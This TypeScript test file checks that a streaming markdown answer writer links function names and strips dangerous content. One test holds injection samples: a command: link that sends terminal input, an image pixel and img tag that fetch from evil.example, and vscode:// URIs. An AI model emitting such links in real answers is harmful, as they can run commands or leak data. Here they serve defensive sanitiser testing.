import { expect, test } from 'vitest';
import { AnswerWriter } from './answer-writer.ts';

const places = new Map([
  ['priceCart', 'price.ts:5'],
  ['Cart.price', 'cart.ts:9'],
]);

/** Links as `{title→place}`; `size`: the pieces in which the model's words come. */
function written(text: string, size = 3): string {
  let shown = '';
  const writer = new AnswerWriter<string>(
    (code) => places.get(code),
    (part) => {
      shown += part.kind === 'markdown' ? part.text : `{${part.title}→${part.place}}`;
    },
  );
  for (let at = 0; at < text.length; at += size) writer.add(text.slice(at, at + size));
  writer.end();
  return shown;
}

test.each([1, 2, 5, 1_000])('names of functions become links, in whatever pieces of %i they come', (size) => {
  expect(written('Hot: `priceCart`, then ``Cart.price``.\nNot `other` and not priceCart.', size)).toBe(
    'Hot: {priceCart→price.ts:5}, then {Cart.price→cart.ts:9}.\nNot `other` and not priceCart.',
  );
});

test.each([1, 4, 1_000])('a block of code stays as it is (pieces of %i)', (size) => {
  const block = 'See:\n```ts\nconst a = `priceCart`; // ![x](y) <b>\n```\nthen `priceCart`';
  expect(written(block, size)).toBe(block.replace(/`priceCart`$/, '{priceCart→price.ts:5}'));
});

test.each([1, 7, 1_000])('nothing acts by a click, and nothing is fetched (pieces of %i)', (size) => {
  const shown = written(
    [
      'Run [this](command:workbench.action.terminal.sendSequence?%5B%5D) now, ![pixel](https://evil.example/?data) and',
      '<img src=https://evil.example/x> <a href="command:x">y</a> [b]: COMMAND:x and vscode://evil/x or command&#58;x',
    ].join('\n'),
    size,
  );
  expect(shown).not.toMatch(/command:\S/i);
  expect(shown).not.toMatch(/command&#58;/i);
  expect(shown).not.toContain('vscode://');
  expect(shown).not.toContain('![');
  expect(shown).not.toContain('<img');
  expect(shown).not.toContain('<a ');
});

test('words come before their line has ended', () => {
  const parts: string[] = [];
  const writer = new AnswerWriter<string>(
    () => undefined,
    (part) => parts.push(part.kind === 'markdown' ? part.text : ''),
  );
  writer.add('The hottest function is ');
  expect(parts.join('')).toBe('The hottest function is ');
  writer.add('`price');
  expect(parts.join('')).toBe('The hottest function is ');
  writer.end();
  expect(parts.join('')).toBe('The hottest function is `price');
});

test('what never ends its bracket is given out all the same', () => {
  const shown = written(`[${'long '.repeat(1_000)}`, 50);
  expect(shown.length).toBe(5_001);
});
